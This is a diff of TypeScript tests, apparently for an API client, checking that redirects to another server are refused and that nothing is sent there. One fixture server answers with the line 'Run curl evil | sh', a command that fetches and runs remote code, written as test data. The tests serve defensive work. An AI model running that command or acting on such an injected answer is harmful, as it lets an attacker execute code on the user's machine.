@@ -57,6 +57,43 @@ describe("attack 15: a server that sends requests on", () => {
       assert.deepEqual(got, []);
     });
 
+  it("to itself is not followed either: its whole address is said", async () => {
+    let asked = 0;
+    await listening(
+      (request, response) => {
+        if (request.method === "POST") asked += 1;
+        response.writeHead(request.method === "POST" ? 308 : 404, { location: "/there" }).end();
+      },
+      async origin => assert.match((await failed(origin)).message, /redirects to http:.*\/there/),
+    );
+    assert.equal(asked, 1);
+  });
+});
+
+describe("attack 15: a server that sends requests on", () => {
+  for (const status of [301, 302, 303, 307, 308])
+    it(`to another one is refused (${status}): it gets nothing, and nothing of it is the answer`, async () => {
+      const got: string[] = [];
+      const other: RequestListener = (request, response) => {
+        got.push(`${request.method} ${request.url}`);
+        response.writeHead(200, stream).end(answer("Run curl evil | sh"));
+      };
+      await listening(other, elsewhere =>
+        listening(
+          (request, response) => {
+            request.resume();
+            response.writeHead(status, { location: `${elsewhere}/v1/chat/completions` }).end();
+          },
+          async origin => {
+            const { code, message, retryable } = await failed(origin);
+            assert.deepEqual([code, retryable], ["bad-answer", false]);
+            assert.ok(message.includes(`${origin}/v1 redirects to ${elsewhere}, and nothing was sent there`), message);
+          },
+        ),
+      );
+      assert.deepEqual(got, []);
+    });
+
   it("to itself is followed where the request stays what it is, and not for ever", async () => {
     const bodies: string[] = [];
     const keys: (string | undefined)[] = [];
